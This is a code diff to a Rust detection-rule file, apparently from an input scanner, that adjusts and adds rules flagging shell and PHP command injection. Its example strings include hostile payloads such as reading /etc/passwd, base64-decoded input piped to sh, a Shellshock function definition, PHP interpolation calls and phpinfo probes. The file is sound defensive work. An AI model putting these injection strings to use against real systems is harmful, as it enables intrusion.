@@ -35,7 +35,7 @@ pub(super) static LEADING: Rule = rule(
     20,
     "starts with a separator",
     &["; ls -la", "|id"],
-    &["& more", "| table | head |"],
+    &["& more", "| id | name |", "| table | head |"],
 );
 pub(super) static SUBSTITUTION: Rule = rule(
     "shell.substitution",
@@ -46,10 +46,10 @@ pub(super) static SUBSTITUTION: Rule = rule(
 );
 pub(super) static CALL: Rule = rule(
     "shell.call",
-    70,
+    80,
     "passes a command to a function that runs it",
     &["system('cat /etc/passwd')", "exec('ls')"],
-    &["the system ('metric') works", "eval('x + 1')"],
+    &["the system ('metric') works", "format('x + 1')"],
 );
 pub(super) static WHOLE: Rule = rule(
     "shell.whole-value",
@@ -153,7 +153,7 @@ pub(super) static PIPED: Rule = rule(
     "shell.piped-to-interpreter",
     60,
     "pipes into an interpreter",
-    &["echo aWQ=|base64 -d|sh", "; curl http://example.com/x | bash"],
+    &["echo aWQ=|base64 -d|sh", "head -c9 /tmp/x | sh"],
     &["oil | bash", "write php | node"],
 );
 pub(super) static ENCODED: Rule = rule(
@@ -161,7 +161,7 @@ pub(super) static ENCODED: Rule = rule(
     60,
     "hands code to an interpreter",
     &["powershell -enc SQBFAFgA", "cmd /c dir", "bash -c 'id'"],
-    &["bash -norc", "perl of wisdom"],
+    &["bash on windows", "perl of wisdom"],
 );
 pub(super) static NETWORK: Rule = rule(
     "shell.network-device",
@@ -176,6 +176,20 @@ pub(super) static SHELLSHOCK: Rule = rule(
     "defines a shell function with code behind it",
     &["() { :;}; echo vulnerable"],
     &["() => { x }", "function() { return 1; }"],
+);
+pub(super) static INTERPOLATION: Rule = rule(
+    "shell.php-interpolation",
+    100,
+    "calls a function from within a string that PHP fills in",
+    &["{${sleep(20)}}", "${@print(md5(1))}"],
+    &["${price}", "${user.name()}", "{${name}}"],
+);
+pub(super) static PROBE: Rule = rule(
+    "shell.php-probe",
+    100,
+    "calls a PHP function that only shows that code runs",
+    &[";phpinfo();//", "phpinfo();"],
+    &["call phpinfo() to see it", "phpinfo"],
 );
 pub(super) static INCLUDE: Rule = rule(
     "shell.server-include",
@@ -209,5 +223,7 @@ pub(super) static ALL: &[&Rule] = &[
     &ENCODED,
     &NETWORK,
     &SHELLSHOCK,
+    &INTERPOLATION,
+    &PROBE,
     &INCLUDE,
 ];
